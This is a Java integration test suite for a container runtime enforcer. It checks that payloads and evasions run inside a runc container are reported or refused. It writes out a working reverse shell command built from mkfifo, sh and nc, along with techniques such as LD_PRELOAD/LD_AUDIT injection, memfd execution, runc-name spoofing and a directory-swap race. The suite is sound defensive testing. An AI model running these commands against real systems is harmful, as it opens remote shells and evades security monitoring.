package dev.bulwark.enforcer;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.bulwark.enforcer.policy.Mode;
import dev.bulwark.enforcer.testing.EventsFile;
import dev.bulwark.enforcer.testing.RuncContainer;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.function.Predicate;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The enforcer attacked as an intruder with root inside a runc container would attack it (runc's defaults: no
 * seccomp profile, user namespaces allowed, {@code /dev} a tmpfs), with small static attacker programs the test
 * builds into the image and payloads dropped at run time, in a group with the zero-drift baseline and no rules.
 * Each evasion is refused in Protect and reported in Monitor, and the container's own programs still run.
 */
class AttacksIT {

    private static final Path GCC = Path.of("/usr/bin/gcc");
    private static final Path LOADER = Path.of("/lib64/ld-linux-x86-64.so.2");
    private static final Path LIBC = Path.of("/lib/x86_64-linux-gnu/libc.so.6");
    private static final List<String> PROGRAMS = List.of("nsexec", "memexec", "argv0", "pwned", "race");

    @TempDir
    static Path tools;

    @TempDir
    Path dir;

    Path events;
    RuncContainer container;
    Enforcer enforcer;
    String group;

    /** Builds the attacker's static programs and the image's one dynamic program. */
    @BeforeAll
    static void buildPrograms() throws Exception {
        RuncContainer.assumeAvailable();
        assumeTrue(Files.isExecutable(GCC), "gcc (Debian package gcc) builds the attacker's programs: skipped");
        assumeTrue(Files.exists(LOADER) && Files.exists(LIBC), "the host's glibc loader is copied into the image");
        for (String program : PROGRAMS) {
            compile(program, "-static");
        }
        compile("hello", "-Wl,--dynamic-linker=" + LOADER);
        compile("preload.so", "-shared", "-fPIC");
    }

    private static void compile(String program, String... linking) throws IOException, InterruptedException,
            URISyntaxException {
        Path source = Path.of(AttacksIT.class.getResource("/attacks/" + program.replace(".so", "") + ".c").toURI());
        List<String> gcc = new java.util.ArrayList<>(List.of(GCC.toString(), "-O2"));
        gcc.addAll(List.of(linking));
        gcc.addAll(List.of("-o", tools.resolve(program).toString(), source.toString()));
        RuncContainer.run(gcc, tools).requireSuccess();
    }

    @BeforeEach
    void start() throws IOException {
        RuncContainer.Builder image = RuncContainer.builder(dir).args("sleep", "600")
                .applets("sh", "sleep", "cat", "cp", "echo", "true", "nc", "mkfifo", "id", "rm", "unshare", "chmod")
                .file("etc/init.sh", "echo image-script\n").file("tmp/.keep", "")
                .copy("lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", LOADER.toRealPath())
                .copy("lib/x86_64-linux-gnu/libc.so.6", LIBC.toRealPath())
                .symlink("lib64/ld-linux-x86-64.so.2", "../lib/x86_64-linux-gnu/ld-linux-x86-64.so.2")
                .copy("bin/hello", tools.resolve("hello")).copy("stage/preload.so", tools.resolve("preload.so"))
                .hostNetwork(); // so that a reverse shell can reach the test
        for (String program : PROGRAMS) {
            image.copy("stage/" + program, tools.resolve(program));
        }
        container = image.start();
        group = "nv." + container.id();
        events = dir.resolve("events.jsonl");
        startEnforcer();
    }

    private void startEnforcer() throws IOException {
        Path policy = Files.writeString(dir.resolve("policy.yaml"), """
                groups:
                - name: %s
                  mode: Monitor
                  baseline: zero-drift
                """.formatted(group));
        enforcer = Enforcer.start(new Enforcer.Settings(Optional.of(policy), dir.resolve("data"), Mode.Discover,
                Optional.of(events), 1000, "test-node", Optional.empty()), Optional.empty());
    }

    @AfterEach
    void stop() throws IOException {
        if (enforcer != null) {
            enforcer.close();
        }
        if (container != null) {
            container.close();
        }
    }

    private Thread inBackground(String script) {
        return Thread.ofVirtual().start(() -> {
            try {
                sh(script);
            } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        });
    }

    private RuncContainer.Result sh(String script) throws IOException {
        return container.exec("sh", "-c", script);
    }

    private JsonNode awaitIncident(Predicate<JsonNode> wanted) throws Exception {
        return new EventsFile(events).await(wanted, () -> "enforcer counters %s".formatted(enforcer.counters()));
    }

    private static Predicate<JsonNode> action(String action, String messagePart) {
        return e -> e.path("action").asText().equals(action) && e.path("message").asText().contains(messagePart);
    }

    /** Protect: the attack is refused before it runs, and the container's own programs still run. */
    private void assertRefused(RuncContainer.Result attack) throws IOException {
        assertThat(attack.stdout()).as(attack.command()).doesNotContain("PWNED").doesNotContain("pwned");
        assertThat(attack.exitCode()).as(attack.command() + ": " + attack.stderr()).isNotZero();
        assertThat(sh("echo image; /bin/hello").requireSuccess().stdout()).isEqualTo("image\nhello\n");
    }

    private void protect() throws Exception {
        enforcer.setMode(group, Mode.Protect);
    }

    @Test
    void aNewUserAndMountNamespaceChangesNothingAndDriftRunsFromNoNamespace() throws Exception {
        sh("cp /stage/pwned /tmp/payload").requireSuccess();
        assertThat(container.exec("/stage/nsexec", "/bin/true").exitCode()).as("unshare -Um works here").isZero();
        assertThat(sh("/tmp/payload").stdout()).as("Monitor lets it run").contains("PWNED");
        awaitIncident(e -> e.path("proc_path").asText().equals("/tmp/payload"));

        protect();
        assertThat(container.exec("/stage/nsexec", "/bin/true").exitCode()).isZero();
        assertRefused(sh("/tmp/payload"));
        assertRefused(container.exec("/stage/nsexec", "/tmp/payload"));
        assertRefused(container.exec("/stage/nsexec", "/bin/sh", "-c", "cp /stage/pwned /tmp/second; /tmp/second"));
        awaitIncident(e -> e.path("proc_path").asText().equals("/tmp/second")
                && e.path("action").asText().equals("deny"));
        assertThat(enforcer.counters().get("failsafe")).isZero();
    }

    @Test
    void aRestartedEnforcerKeepsTheBaselineItTookAtFirstSight() throws Exception {
        sh("cp /stage/pwned /tmp/before").requireSuccess();
        enforcer.setMode(group, Mode.Protect);
        assertRefused(sh("/tmp/before"));
        enforcer.close();
        enforcer = null;
        sh("cp /stage/pwned /tmp/while-down").requireSuccess();
        startEnforcer();
        protect();
        assertRefused(sh("/tmp/before"));
        assertRefused(sh("/tmp/while-down"));
    }

    @Test
    void aContainerFirstSeenInProtectStartsWithNoFailSafeAllowAndRefusesDrift() throws Exception {
        String id = "bulwark-late-" + java.util.UUID.randomUUID().toString().substring(0, 8);
        enforcer.setMode("nv." + id, Mode.Protect);
        try (RuncContainer late = RuncContainer.builder(dir.resolve("late")).id(id).args("sleep", "600")
                .applets("sh", "sleep", "cp", "echo").file("tmp/.keep", "").start()) {
            assertThat(late.exec("echo", "runs").requireSuccess().stdout()).isEqualTo("runs\n");
            RuncContainer.Result drift = late.exec("sh", "-c", "cp /bin/busybox /tmp/x; /tmp/x echo PWNED");
            assertThat(drift.stdout()).doesNotContain("PWNED");
            assertThat(drift.exitCode()).isEqualTo(126);
        }
        assertThat(enforcer.counters().get("failsafe")).isZero();
    }

    @Test
    void aBigFileSystemCausesNoFailSafeAllow() throws Exception {
        sh("mkdir /tmp/many; cd /tmp/many; i=0; while [ $i -lt 20000 ]; do echo > f$i; i=$((i+1)); done")
                .requireSuccess();
        sh("cp /stage/pwned /tmp/payload").requireSuccess();
        protect();
        for (int i = 0; i < 3; i++) {
            assertThat(container.exec("/stage/nsexec", "/bin/true").exitCode()).isZero();
            assertRefused(sh("/tmp/payload"));
        }
        assertThat(enforcer.counters().get("failsafe")).isZero();
    }

    @Test
    void theLoaderIsJudgedByTheProgramItIsToldToRun() throws Exception {
        sh("cp /bin/hello /tmp/payload").requireSuccess();
        assertThat(container.exec("/lib64/ld-linux-x86-64.so.2", "/tmp/payload").stdout()).isEqualTo("hello\n");
        JsonNode reported = awaitIncident(action("violate", "dynamic loader was told to run /tmp/payload"));
        assertThat(reported.path("name").asText()).isEqualTo("Process.Profile.Violation");

        protect();
        assertRefused(container.exec("/lib64/ld-linux-x86-64.so.2", "/tmp/payload"));
        assertRefused(container.exec("/lib64/ld-linux-x86-64.so.2", "--preload", "/tmp/payload", "/bin/hello"));
        awaitIncident(action("deny", "dynamic loader was told to run /tmp/payload"));
        assertThat(container.exec("/lib64/ld-linux-x86-64.so.2", "/bin/hello").requireSuccess().stdout())
                .as("the image's program through the loader").isEqualTo("hello\n");
    }

    @Test
    void aDynamicProgramIsJudgedByTheLibrariesItsEnvironmentPreloads() throws Exception {
        sh("cp /stage/preload.so /tmp/evil.so").requireSuccess();
        assertThat(sh("LD_PRELOAD=/tmp/evil.so /bin/hello").stdout()).isEqualTo("PWNED\nhello\n");
        JsonNode reported = awaitIncident(action("violate", "LD_PRELOAD names /tmp/evil.so"));
        assertThat(reported.path("proc_path").asText()).isEqualTo("/bin/hello");

        protect();
        assertRefused(sh("LD_PRELOAD=/tmp/evil.so /bin/hello"));
        assertRefused(sh("LD_AUDIT=/lib/x86_64-linux-gnu/libc.so.6:/tmp/evil.so /bin/hello"));
        awaitIncident(action("deny", "LD_AUDIT names /tmp/evil.so"));
        assertThat(sh("LD_PRELOAD=/stage/preload.so /bin/hello").requireSuccess().stdout())
                .as("the image's own library").isEqualTo("PWNED\nhello\n");
    }

    @Test
    void anonymousExecutablesAndRuncNamesAreNotTrusted() throws Exception {
        assertThat(container.exec("/stage/memexec", "runc", "/stage/pwned").stdout()).contains("PWNED");
        container.exec("/stage/memexec", "runc", "/bin/busybox", "sleep", "1").requireSuccess();
        awaitIncident(action("violate", "anonymous executable (memfd)"));

        protect();
        assertRefused(container.exec("/stage/memexec", "runc", "/stage/pwned"));
        assertRefused(container.exec("/stage/memexec", "payload", "/stage/pwned"));
        assertRefused(sh("cp /stage/pwned '/dev/runc:[2:INIT]'; '/dev/runc:[2:INIT]'"));
        awaitIncident(e -> e.path("proc_path").asText().equals("/dev/runc:[2:INIT]")
                && e.path("action").asText().equals("deny"));
    }

    @Test
    void swappingDirectoriesWhileTheGateDecidesRunsNoPayload() throws Exception {
        sh("mkdir /x; cp /stage/pwned /x/busybox").requireSuccess();
        protect();
        RuncContainer.Result race = container.exec("/stage/race", "/bin", "/x", "/bin/busybox", "2000");
        if (!Files.exists(container.rootfs().resolve("bin/sh"))) { // the swapper stopped mid-way
            Files.move(container.rootfs().resolve("bin"), container.rootfs().resolve("swapped"));
            Files.move(container.rootfs().resolve("x"), container.rootfs().resolve("bin"));
        }
        assertThat(race.stdout()).as(race.stderr()).contains("payload runs: 0");
        awaitIncident(e -> e.path("proc_path").asText().equals("/x/busybox")
                || e.path("proc_path").asText().equals("/bin/busybox") && e.path("action").asText().equals("deny"));
        assertRefused(sh("/x/busybox"));
    }

    @Test
    void droppedScriptsAreRefusedWhateverWayTheShellGetsThem() throws Exception {
        sh("echo 'echo pwned' > /tmp/s.sh").requireSuccess();
        assertThat(container.exec("sh", "/tmp/s.sh").stdout()).isEqualTo("pwned\n");
        awaitIncident(action("violate", "script not part of the image run by sh: /tmp/s.sh"));

        protect();
        assertRefused(container.exec("sh", "/tmp/s.sh"));
        assertRefused(sh("sh < /tmp/s.sh"));
        awaitIncident(action("deny", "from its standard input"));
        assertThat(container.exec("sh", "/etc/init.sh").requireSuccess().stdout()).isEqualTo("image-script\n");
        assertThat(sh("sh < /etc/init.sh").requireSuccess().stdout()).isEqualTo("image-script\n");
    }

    @Test
    void networkToolsAreKnownByTheAppletTheyActAs() throws Exception {
        int port = 20000 + new java.util.Random().nextInt(20000);
        sh("busybox nc -l -p %d & sleep 0.5; kill $!".formatted(port));
        awaitIncident(e -> e.path("name").asText().equals("Container.Tunnel.Detected")
                && e.path("proc_name").asText().equals("busybox"));
        container.exec("/stage/argv0", "nc", "/bin/cat", "-l", "-p", Integer.toString(port + 1), "-w", "1");
        awaitIncident(e -> e.path("name").asText().equals("Container.Tunnel.Detected")
                && e.path("proc_name").asText().equals("cat"));
    }

    @Test
    void aReverseShellThroughAFifoAndPipesIsFoundAndStopped() throws Exception {
        try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            String attack = "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh 2>&1 | nc 127.0.0.1 %d > /tmp/f"
                    .formatted(listener.getLocalPort());
            Thread attacker = inBackground(attack);
            try (Socket shell = listener.accept()) {
                shell.getOutputStream().write("id\n".getBytes(StandardCharsets.UTF_8));
                BufferedReader reply = new BufferedReader(new InputStreamReader(shell.getInputStream(),
                        StandardCharsets.UTF_8));
                assertThat(reply.readLine()).as("Monitor lets it run").startsWith("uid=0");
                JsonNode found = awaitIncident(e -> e.path("message").asText().startsWith("reverse shell")
                        && e.path("proc_name").asText().equals("sh"));
                assertThat(found.path("name").asText()).isEqualTo("Container.Tunnel.Detected");
                try (OutputStream out = shell.getOutputStream()) {
                    out.write("exit\n".getBytes(StandardCharsets.UTF_8));
                }
            }
            attacker.join();

            protect();
            listener.setSoTimeout(5_000);
            Thread again = inBackground(attack);
            try (Socket shell = listener.accept()) {
                shell.setSoTimeout(5_000);
                shell.getOutputStream().write("id\n".getBytes(StandardCharsets.UTF_8));
                int read = shell.getInputStream().read();
                assertThat(read).as("the shell answers nothing").isEqualTo(-1);
            } catch (java.net.SocketTimeoutException | java.net.SocketException stopped) {
                // nc was refused or killed before it connected or answered: stopped too
            }
            again.join();
            awaitIncident(e -> e.path("name").asText().equals("Container.Tunnel.Detected")
                    && e.path("action").asText().equals("deny"));
        }
    }
}
